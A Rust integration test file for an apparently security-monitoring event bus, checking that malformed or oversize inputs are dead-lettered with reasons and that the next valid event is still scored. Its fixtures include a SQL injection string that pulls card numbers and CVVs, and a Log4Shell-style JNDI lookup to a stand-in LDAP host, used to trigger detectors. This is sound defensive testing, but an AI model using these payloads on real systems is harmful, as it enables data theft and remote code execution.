//! Whatever is published: a dead letter with the reason, and the next good event is scored.
#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stdout,
    clippy::unreachable,
    clippy::unwrap_used,
    reason = "a test reports by panicking"
)]

use async_nats::jetstream::context::PublishErrorKind;
use magsentinel_bus_schema::{
    DeadLetter, Event, Failure, Fields, Id, Kind, Level, SCHEMA_VERSION, Scored, Shard, Source,
    Stream, Subject, Tenant, Timestamp, Token, encode, subject,
};
use magsentinel_runtime::bus::Bus;
use magsentinel_tests::{Mesh, held, wait_for};
use serde_json::{Value, json};
use std::io::Write;

const INJECTION: &str =
    "SELECT * FROM users WHERE name = '' UNION SELECT card, cvv FROM payments --'";

async fn letters(bus: &Bus) -> Vec<DeadLetter> {
    held(bus, Stream::DeadLetter, subject::all_of(bus.tenant(), "deadletter")).await
}

async fn flagged(bus: &Bus) -> Vec<Scored> {
    let patrol: Token = "sql-guard".parse().unwrap();
    let mut all = Vec::new();
    for level in [Level::Medium, Level::High, Level::Critical] {
        let filter = Subject::Scored(patrol.clone(), level).of(bus.tenant());
        all.extend(held::<Scored>(bus, Stream::Scored, filter).await);
    }
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_ingest_is_dead_lettered_with_its_reason_and_the_next_good_event_is_scored() {
    let mesh = Mesh::with(&["sensor", "sql-guard"]).await;
    let bus = mesh.bus().await;
    let bad: [(&str, Vec<u8>, &str); 8] = [
        ("sql", b"".to_vec(), "empty"),
        ("sql", br#"{"text": "SELECT"#.to_vec(), "JSON"),
        ("sql", br#"{"text": 7}"#.to_vec(), "text"),
        ("sql", b"\xff\xfe\xfd".to_vec(), "2 bytes follow"),
        ("sql", br#"{"text": "select 1"} trailing"#.to_vec(), "JSON"),
        ("sql", b"[1, 2]".to_vec(), "object"),
        ("sql", br#"{"user": "ann"}"#.to_vec(), "text"),
        ("wine", br#"{"text": "select 1"}"#.to_vec(), "wine"),
    ];
    for (kind, payload, _) in &bad {
        mesh.ingest(kind, payload.clone()).await;
    }
    mesh.ingest("sql", json!({"text": INJECTION, "user": "ann"}).to_string()).await;
    let found = wait_for("the good event to be scored", async || {
        Some(flagged(&bus).await).filter(|f| !f.is_empty())
    })
    .await;
    assert_eq!(found.len(), 1);
    // `[1, 2]` has two bad elements.
    let letters = wait_for("dead letters", async || {
        Some(letters(&bus).await).filter(|l| l.len() > bad.len())
    })
    .await;
    assert_eq!(letters.len(), bad.len() + 1, "{letters:#?}");
    for (_, payload, reason) in &bad {
        let of_it = letters.iter().filter(|l| l.payload_len == payload.len() as u64);
        let told: Vec<&String> = of_it.map(|l| &l.reason).collect();
        assert!(told.iter().any(|r| r.contains(reason)), "{reason:?} not in {told:?}");
    }
    assert!(letters.iter().all(|l| l.failure == Failure::Poison));
}

#[tokio::test(flavor = "multi_thread")]
async fn one_bad_element_does_not_sink_the_rest() {
    let mesh = Mesh::with(&["sensor"]).await;
    let bus = mesh.bus().await;
    let many = json!([{"text": "select 1"}, 7, {"text": null}, {"text": "select 2"}]);
    mesh.ingest("sql", many.to_string()).await;
    let filter = subject::events_of(bus.tenant(), Kind::Sql);
    let events: Vec<Event> = wait_for("two events", async || {
        let found = held::<Event>(&bus, Stream::Events, filter.clone()).await;
        (found.len() >= 2).then_some(found)
    })
    .await;
    assert_eq!(events.len(), 2);
    let letters =
        wait_for("two letters", async || Some(letters(&bus).await).filter(|l| l.len() >= 2)).await;
    let mut elements: Vec<_> = letters.iter().map(|l| l.element).collect();
    elements.sort_unstable();
    assert_eq!(elements, [Some(1), Some(2)]);
}

fn event(text: Value) -> Event {
    let Value::Object(body) = json!({"text": text, "user": "ann"}) else { unreachable!() };
    let now = Timestamp::from_micros(1_700_000_000_000_000);
    Event {
        v: SCHEMA_VERSION,
        id: Id::fresh(),
        tenant: Tenant::default(),
        kind: Kind::Sql,
        ts: now,
        received: now,
        ts_missing: false,
        replayed: false,
        source: Source::default(),
        causes: vec![],
        trace: None,
        body: Fields(body),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_events_are_dead_lettered_by_the_patrol() {
    let mesh = Mesh::with(&["sql-guard"]).await;
    let bus = mesh.bus().await;
    let js = async_nats::jetstream::new(mesh.client().await);
    let subject = Subject::Event(Kind::Sql, Shard(3)).of(bus.tenant());
    let good = encode(&event(json!(INJECTION))).unwrap();
    let mut newer = event(json!("select 1"));
    newer.v = 99;
    let bad = [
        (good[..good.len() / 2].to_vec(), "MessagePack"),
        ([good.clone(), vec![0xc0]].concat(), "1 bytes follow"),
        (encode(&newer).unwrap(), "version 99"),
        (encode(&event(json!({"nested": true}))).unwrap(), "text"),
        (b"\xc1".to_vec(), "MessagePack"),
        (b"[]".to_vec(), "JSON"),
    ];
    for (payload, _) in bad.iter().chain([&(good, "")]) {
        js.publish(subject.clone(), payload.clone().into()).await.unwrap().await.unwrap();
    }
    wait_for("the good event to be scored", async || {
        Some(flagged(&bus).await).filter(|f| f.len() == 1)
    })
    .await;
    let letters = wait_for("dead letters", async || {
        Some(letters(&bus).await).filter(|l| l.len() >= bad.len())
    })
    .await;
    assert_eq!(letters.len(), bad.len(), "{letters:#?}");
    for (_, reason) in bad {
        assert!(letters.iter().any(|l| l.reason.contains(reason)), "{reason}: {letters:#?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_too_large_for_the_server_is_refused_to_its_publisher() {
    let mesh = Mesh::with(&["sensor", "sql-guard"]).await;
    let bus = mesh.bus().await;
    let js = async_nats::jetstream::new(mesh.client().await);
    let huge = vec![b'x'; 64 * 1024 * 1024];
    let refused = js.publish("mag.default.ingest.sql", huge.into()).await;
    let refused = match refused {
        Ok(ack) => ack.await.map(drop),
        Err(e) => Err(e),
    };
    let told = refused.unwrap_err();
    assert_eq!(told.kind(), PublishErrorKind::MaxPayloadExceeded, "{told:?}");
    mesh.ingest("sql", json!({"text": INJECTION}).to_string()).await;
    wait_for("the good event to be scored", async || {
        Some(flagged(&bus).await).filter(|f| f.len() == 1)
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_line_of_a_log_is_a_dead_letter_and_the_next_line_is_scored() {
    let mut mesh = Mesh::new();
    let log = mesh.dir().join("access.log");
    std::fs::write(&log, "").unwrap();
    mesh.start("sensor", &["--tail", &format!("access={}", log.display())]);
    mesh.start("api-watch", &[]);
    mesh.ready().await;
    let bus = mesh.bus().await;
    wait_for("the log to be followed", async || {
        let services = magsentinel_runtime::micro::ask_all(&bus, "STATS", Some("sensor")).await;
        let services = services.ok()?;
        let tail = services.first()?.pointer("/endpoints/0/data/parts/tail")?.to_string();
        tail.contains("access.log").then_some(())
    })
    .await;
    let line = |path: &str| {
        json!({
            "time_iso8601": "2026-11-21T11:00:00+00:00", "remote_addr": "203.0.113.9",
            "request": format!("GET {path} HTTP/1.1"), "status": "200",
        })
        .to_string()
    };
    let huge = line(&format!("/{}", "x".repeat(64 * 1024 * 1024)));
    let good = line("/search?q=%24%7Bjndi:ldap://198.51.100.1/a%7D");
    let mut file = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    file.write_all(format!("{huge}\n{good}\n").as_bytes()).unwrap();
    let letters = wait_for("the dead letter", async || {
        Some(letters(&bus).await).filter(|letters| !letters.is_empty())
    })
    .await;
    let [letter] = letters.as_slice() else { panic!("{letters:#?}") };
    // With its end.
    let len = huge.len() as u64 + 1;
    assert_eq!(letter.payload_len, len, "{}", letter.reason);
    assert_eq!(letter.reason, format!("line of {len} bytes is over line_bytes_max"));
    let patrol: Token = "api-watch".parse().unwrap();
    wait_for("the next line to be scored", async || {
        let mut all = Vec::new();
        for level in [Level::High, Level::Critical] {
            let filter = Subject::Scored(patrol.clone(), level).of(bus.tenant());
            all.extend(held::<Scored>(&bus, Stream::Scored, filter).await);
        }
        (all.len() == 1).then_some(())
    })
    .await;
}
